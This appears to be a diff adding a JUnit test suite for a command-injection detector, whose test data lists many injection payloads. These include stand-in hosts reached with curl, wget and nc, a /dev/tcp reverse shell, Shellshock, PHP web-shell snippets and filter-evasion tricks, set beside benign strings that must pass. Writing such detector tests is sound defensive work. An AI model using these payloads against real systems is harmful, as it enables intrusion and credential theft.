@@ -1,0 +1,149 @@
+package dev.lambdaguard.input.detect;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertNull;
+
+import dev.lambdaguard.input.Category;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** OS command injection and code execution: the grammar of the attack, its evasions, and the text that passes. */
+class CmdiDetectorTest {
+
+  private final CmdiDetector detector = new CmdiDetector();
+
+  private Detection detect(String value) {
+    return detector.detect(Normalized.of(value));
+  }
+
+  private void assertRule(String ruleId, String value) {
+    Detection d = detect(value);
+    assertNotNull(d, () -> "not detected: " + value);
+    assertEquals(Category.CMDI, d.category());
+    assertEquals(ruleId, d.ruleId(), () -> "rule for: " + value);
+  }
+
+  @Test
+  void isTheCmdiCategory() {
+    assertEquals(Category.CMDI, detector.category());
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "; id", "a;id", "x|id|", "x || whoami", "1 && uname -a", "file & ping -c 3 10.0.0.1", "a;cat /etc/passwd",
+    "q | type C:\\Windows\\win.ini", "';sleep 10;'", "\";netstat -an;\"", "x|nslookup attacker.example",
+    "x && curl http://evil.example/x.sh", "x; wget -O /tmp/x http://evil.example/x", "x| dir C:\\",
+    "x && net user eve P4ss /add", "x & reg add HKLM\\Software\\X /v y", "x;python3 -c 'print(1)'",
+    "x| bash -i", "x | sh", "x;echo 'owned' > /var/www/x.html", "x; rm -rf /tmp/x", "x; find / -perm -4000",
+    "x | powershell -enc SQBFAFgA", "x & cmd /c dir", "x|nc 10.0.0.1 4444", "x;ps aux", "x; env",
+    "a%0Aid", "127.0.0.1%0a%0dwhoami", "\\nid\\n", "x; sudo whoami", "x;kill -9 1", "x; echo `id`",
+    "x; printenv", "x | Invoke-Expression", "x;DIR C:\\Users"
+  })
+  void aCommandAfterASeparatorIsDetected(String value) {
+    assertRule("cmdi.separator-command", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "`id`", "$(whoami)", "x$(id)y", "name=`uname -a`", "$(`cat /etc/passwd`)", "`sleep 5`", "x <(id)",
+    "ping -c 1 `whoami`.evil.example", "$(curl http://evil.example)", ";`echo id`"
+  })
+  void aCommandInASubstitutionIsDetected(String value) {
+    assertRule("cmdi.substitution", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "cat /etc/passwd", "cat</etc/shadow", "ls -la /", "ls -l /var/www/", "type C:\\boot.ini",
+    "dir C:\\Users", "uname -a", "netstat -ano", "ipconfig /all", "whoami /priv", "perl -e 'print 1'",
+    "python -c 'import os'", "php -r 'echo 1;'", "ruby -e 'puts 1'", "bash -c 'id'",
+    "nc -lvp 4444 -e sh", "net user eve P4ss /ADD", "reg add \"HKLM\\Software\" /v x",
+    "powershell -nop -c \"iex(1)\"", "rm -rf /"
+  })
+  void aValueThatIsADangerousCommandLineIsDetected(String value) {
+    assertRule("cmdi.command-line", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    ";/usr/bin/id", "|/bin/ls -al", "a|usr/bin/id", "/bin/cat /etc/passwd", "x; exec /bin/sh -i",
+    "x -e /bin/bash"
+  })
+  void aBinaryByPathInCommandPositionIsDetected(String value) {
+    assertRule("cmdi.shell-path", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami", "|w\"h\"oami", "& w^h^o^a^m^i", ";c\\at /etc/passwd",
+    ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
+    ";$'\\x63\\x61\\x74' /etc/passwd", "w'h'o'a'm'i"
+  })
+  void quoteSplittingAndBlankEvasionsAreDetected(String value) {
+    assertRule("cmdi.evasion", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "<?php system($_GET['c']); ?>", "<?= `id` ?>", "system('cat /etc/passwd')", "exec(\"whoami\")",
+    "passthru($_REQUEST['x'])", "eval($_POST['x'])", "x;phpinfo();", ":phpversion();", "{${system('id')}}",
+    "${@print(md5(1))}", ";{$_GET[\"cmd\"]}", "os.system('id')", "subprocess.check_output(['ls'])",
+    "__import__('os')", "require('child_process')", "Runtime.getRuntime().exec(cmd)", "IO.popen('id')",
+    "eval(base64_decode('aWQ='))", "SYSTEM('ls')"
+  })
+  void codeExecutionCallsAreDetected(String value) {
+    assertRule("cmdi.code-exec", value);
+  }
+
+  @Test
+  void serverSideIncludesShellshockAndReverseShellsAreDetected() {
+    assertRule("cmdi.ssi", "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->");
+    assertRule("cmdi.ssi", "&lt;!--#exec%20cmd=&quot;id&quot;--&gt;");
+    assertRule("cmdi.shellshock", "() { :;}; /bin/bash -c id");
+    assertRule("cmdi.shellshock", "() { ignored; }; echo x");
+    assertRule("cmdi.reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1");
+  }
+
+  @Test
+  void encodedPayloadsAreSeenDecoded() {
+    assertRule("cmdi.separator-command", "%3Bcat%20%2Fetc%2Fpasswd");
+    assertRule("cmdi.substitution", "%24%28id%29");
+    assertRule("cmdi.separator-command", "%253Bid");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "$5", "$5.00 & free shipping", "C# & F#", "a | b", "rock & roll", "Q&A", "AT&T", "Terms & Conditions; see page 3",
+    "Don't forget the semicolon; it matters.", "Sleep 8 hours; eat well", "I need to sleep; talk tomorrow",
+    "Please type your name; type carefully", "The cat sat; the dog ran", "Cats & dogs; ID card needed",
+    "99.9% uptime; uptime matters", "skills: java; python; go", "Press stop; halt", "echo chamber; echo effect",
+    "Don't curl your hair; curl is bad", "Please find attached; find the invoice below", "ps. call me",
+    "| Name | ID |\n|---|---|\n| Jane | id |", "https://example.com/search?q=cat&type=image&id=42",
+    "https://example.com/?cmd=ls&dir=/tmp", "data:image/png;base64,iVBORw0KGgo=",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "text/html,application/xml;q=0.9",
+    "cd ~/projects/my-app && npm start", "curl -s https://api.example.com/health | jq .status",
+    "ls -la ~/Downloads", "cat /etc/os-release", "tail -f /var/log/syslog", "git commit -m \"fix: handle empty cart\"", "python -m venv .venv",
+    "pip install 'requests>=2.31,<3'", "`npm test` passes locally", "run `npm install` then `npm test`",
+    "I ran `uname -a` and got Linux", "Output of `id`: uid=1000", "```bash\nmvn -q package\n```",
+    "docker ps | grep postgres", "ps aux | grep java", "echo $PATH", "curl/8.5.0", "/bin/bash is my shell",
+    "#!/bin/bash", "for (int i = 0; i < n; i++) sum += a[i];", "if (user != null && user.isActive()) { greet(user); }",
+    "assertEquals(42, answer());", "regex.exec(input)", "$('#menu').toggle()", "$((1 + 2))",
+    "export default function App() { return null; }", "printf(\"%s\\n\", argv[1]);", "the system() call failed",
+    "5 Washington Blvd\nDenver, CO 80202", "Line1\nLine2", "name: Jane\nrole: admin", "<!-- comment -->",
+    "eval is evil", "sleep number bed sale", "python list comprehension if else", "a;b;c;d", "key=value; other=thing",
+    "Jane Doe <jane.doe@example.com>", "Price: $1,299 (was $1,499)", "<-- back | next -->", "1 < n && n > 0"
+  })
+  void legitimateTextPasses(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {";", ";;;;", "| ", "&&", "$(", "`", "\\n", "; ls ", "${IFS}", "eval(", "{a,", "; cat '",
+      "() {", "/bin/", "<?", "a\n"})
+  void aMegabyteOfNearMissesCompletes(String unit) {
+    String value = unit.repeat(1_000_000 / unit.length());
+    detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
+  }
+}
